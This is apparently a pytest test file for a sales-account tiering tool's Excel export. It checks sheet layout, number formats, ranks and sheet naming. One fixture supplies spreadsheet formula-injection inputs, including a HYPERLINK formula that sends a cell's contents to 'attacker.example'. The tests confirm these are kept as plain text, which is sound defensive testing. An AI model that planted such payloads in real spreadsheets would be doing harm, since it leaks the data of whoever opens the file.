"""The workbook for sales, reopened with openpyxl and checked cell by cell."""

from __future__ import annotations

import json
import re
import zipfile
from dataclasses import replace
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import pytest

from tierwise.errors import TierwiseError
from tierwise.jobs import tier_file
from tierwise.report import export_results, load_results
from tierwise.report.workbook import write_workbook
from tierwise.sample import DEMO_AS_OF

TIER_SHEETS = ["Strategic", "Focus", "Programmatic", "Unassigned"]


@pytest.fixture(scope="module")
def demo_workbook(demo_run: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("excel")
    return export_results(demo_run, "excel", out).path


def test_the_demo_workbook_has_an_about_sheet_and_a_sheet_per_tier(
    demo_workbook: Path, demo_run: Path
) -> None:
    workbook = openpyxl.load_workbook(demo_workbook)
    counts = json.loads((demo_run / "run.json").read_text())["tiers"]

    assert workbook.sheetnames == ["About", *TIER_SHEETS]
    rows = {name: workbook[name].max_row - 1 for name in TIER_SHEETS}
    assert rows == {
        "Strategic": counts["tier_1"],
        "Focus": counts["tier_2"],
        "Programmatic": counts["tier_3"],
        "Unassigned": counts["unassigned"],
    }


def test_every_tier_sheet_freezes_its_header_and_explains_each_account(
    demo_workbook: Path,
) -> None:
    workbook = openpyxl.load_workbook(demo_workbook)

    for name in TIER_SHEETS:
        sheet = workbook[name]
        header = [cell.value for cell in sheet[1]]
        assert sheet.freeze_panes == "C2"
        assert header == [
            "Account ID",
            "Account",
            "Tier",
            "Rank",
            "Total score",
            "Firmographic fit",
            "Strategic value",
            "Engagement and intent",
            "Accessibility",
            "Reason",
            "Why",
            "Cap rank",
            "Capped from",
            "Completeness %",
            "Potential (EUR)",
            "Potential estimated",
        ]
        assert all(cell.font.bold for cell in sheet[1])


def test_columns_are_wide_enough_for_their_header(demo_workbook: Path) -> None:
    sheet = openpyxl.load_workbook(demo_workbook)["Focus"]

    for cell in sheet[1]:
        width = sheet.column_dimensions[cell.column_letter].width
        assert width >= len(str(cell.value)), cell.value
        assert width <= 60


def test_numbers_are_numbers_and_text_is_text(demo_workbook: Path) -> None:
    sheet = openpyxl.load_workbook(demo_workbook)["Focus"]
    first = {
        header.value: cell for header, cell in zip(sheet[1], sheet[2], strict=True)
    }

    assert first["Rank"].value == 1 and first["Rank"].data_type == "n"
    assert isinstance(first["Total score"].value, float)
    assert first["Total score"].number_format == "0.00"
    assert isinstance(first["Potential (EUR)"].value, (int, float))
    assert first["Tier"].value == "Focus" and first["Tier"].data_type == "s"
    assert first["Potential estimated"].value in {"yes", "no"}


def test_ranks_run_in_order_within_each_tier(demo_workbook: Path) -> None:
    sheet = openpyxl.load_workbook(demo_workbook)["Programmatic"]

    ranks = [row[3] for row in sheet.iter_rows(min_row=2, values_only=True)]

    assert ranks == list(range(1, len(ranks) + 1))


def test_a_capped_account_says_which_tier_was_full(demo_workbook: Path) -> None:
    sheet = openpyxl.load_workbook(demo_workbook)["Focus"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))

    capped = [row for row in rows if row[9] == "capped"]

    assert capped, "the demo caps Strategic, so Focus holds capped accounts"
    assert all(row[12] == "Strategic" and isinstance(row[11], int) for row in capped)
    assert capped[0][10].startswith("Qualified for Strategic, which was full")


def test_a_tier_beyond_the_sheet_limit_continues_on_numbered_sheets(
    demo_run: Path, tmp_path: Path
) -> None:
    results = load_results(demo_run)
    path = tmp_path / "split.xlsx"

    placed = write_workbook(results, path, sheet_rows=101)

    workbook = openpyxl.load_workbook(path)
    programmatic = next(tier for tier in placed if tier.name == "Programmatic")
    expected_sheets = -(-programmatic.accounts // 100)
    assert programmatic.sheets == ["Programmatic"] + [
        f"Programmatic ({n})" for n in range(2, expected_sheets + 1)
    ]
    ranks = []
    for name in programmatic.sheets:
        sheet = workbook[name]
        assert sheet.max_row <= 101
        assert sheet.freeze_panes == "C2"
        assert sheet["A1"].value == "Account ID"
        ranks += [row[3] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert ranks == list(range(1, programmatic.accounts + 1))
    assert workbook["Focus"].max_row == 101
    assert "Focus (2)" not in workbook.sheetnames


def test_a_sheet_limit_without_room_for_an_account_is_refused(
    demo_run: Path, tmp_path: Path
) -> None:
    with pytest.raises(TierwiseError, match="at least one account"):
        write_workbook(load_results(demo_run), tmp_path / "x.xlsx", sheet_rows=1)


CASE_18_ACCOUNTS = """account_id,name,potential_acv
acc-1,"=HYPERLINK(""http://attacker.example/?x=""&A1,""Open"")",250000
acc-2,+Plus Minus Ltd,250000
acc-3,@Acme Ops,250000
acc-4,Negative Revenue Test,-1250
acc-5,"  ＝1+1",250000
acc-6,"	=1+1",250000
acc-7,"Bell Ltd",250000
"""


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    accounts = folder / "accounts.csv"
    accounts.write_text(CASE_18_ACCOUNTS, encoding="utf-8")
    tier_file(accounts, folder / "run", DEMO_AS_OF)
    return folder / "run"


def test_case_18_names_are_text_cells_shown_exactly_as_written(
    hostile_run: Path, tmp_path: Path
) -> None:
    path = export_results(hostile_run, "excel", tmp_path).path

    workbook = openpyxl.load_workbook(path)
    names = {}
    for sheet in workbook.worksheets[1:]:
        for row in sheet.iter_rows(min_row=2):
            names[row[0].value] = row[1]

    # The reader trims the white space around names; the cell-level tests
    # cover formulas behind leading spaces and tabs.
    assert {key: cell.value for key, cell in names.items()} == {
        "acc-1": '=HYPERLINK("http://attacker.example/?x="&A1,"Open")',
        "acc-2": "+Plus Minus Ltd",
        "acc-3": "@Acme Ops",
        "acc-4": "Negative Revenue Test",
        "acc-5": "＝1+1",
        "acc-6": "=1+1",
        "acc-7": "Bell Ltd",
    }
    assert all(cell.data_type == "s" for cell in names.values())
    # Marked as typed with a leading apostrophe, so editing the cell in
    # Excel keeps it text; a plain name carries no mark.
    looks_like_formula = {"acc-1", "acc-2", "acc-3", "acc-5", "acc-6"}
    assert {key for key, cell in names.items() if cell.quotePrefix} == (
        looks_like_formula
    )


def test_case_18_the_workbook_holds_no_formula_at_all(
    hostile_run: Path, tmp_path: Path
) -> None:
    path = export_results(hostile_run, "excel", tmp_path).path

    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if "worksheets/" in name]
        xml = "".join(archive.read(name).decode("utf-8") for name in sheets)

    assert len(sheets) == 5
    assert "<f>" not in xml and "<f " not in xml
    # The name is an inline text cell holding exactly what was written.
    cells = re.findall(r'<c r="B\d+"([^>]*)><is><t>([^<]*HYPERLINK[^<]*)</t>', xml)
    assert [(('t="inlineStr"' in kind), text) for kind, text in cells] == [
        (True, escape('=HYPERLINK("http://attacker.example/?x="&A1,"Open")'))
    ]


def test_the_about_sheet_says_formula_like_text_is_kept_as_text(
    hostile_run: Path, tmp_path: Path
) -> None:
    path = export_results(hostile_run, "excel", tmp_path).path

    about = openpyxl.load_workbook(path)["About"]
    notes = [row[0] for row in about.iter_rows(values_only=True) if row]

    assert any(
        str(note).startswith("Text a spreadsheet could run as a formula")
        and "kept as text" in str(note)
        for note in notes
    ), notes


def test_case_18_a_negative_number_stays_a_number(
    hostile_run: Path, tmp_path: Path
) -> None:
    path = export_results(hostile_run, "excel", tmp_path).path

    workbook = openpyxl.load_workbook(path)
    potentials = {}
    for sheet in workbook.worksheets[1:]:
        header = [cell.value for cell in sheet[1]]
        column = header.index("Potential (EUR)")
        for row in sheet.iter_rows(min_row=2):
            potentials[row[0].value] = row[column]

    assert potentials["acc-4"].value == -1250
    assert potentials["acc-4"].data_type == "n"


def test_sheet_names_are_made_legal_short_and_unique(
    demo_run: Path, tmp_path: Path
) -> None:
    results = load_results(demo_run)
    names = [
        "Key: accounts [EU]/APAC*?",
        "Focus accounts for the Benelux region",
        "About",
    ]
    tiers = [
        tier.model_copy(update={"name": name})
        for tier, name in zip(results.model.tiers, names, strict=False)
    ]
    model = results.model.model_copy(update={"tiers": tiers + results.model.tiers[3:]})
    renamed = replace(results, model=model)

    placed = write_workbook(renamed, tmp_path / "names.xlsx", sheet_rows=801)

    assert [tier.sheets for tier in placed] == [
        ["Key accounts EU APAC"],
        ["Focus accounts for the Benelux"],
        ["About #2", "About #2 (2)"],
        ["Unassigned"],
    ]
    workbook = openpyxl.load_workbook(tmp_path / "names.xlsx")
    assert workbook.sheetnames == ["About", *(s for t in placed for s in t.sheets)]
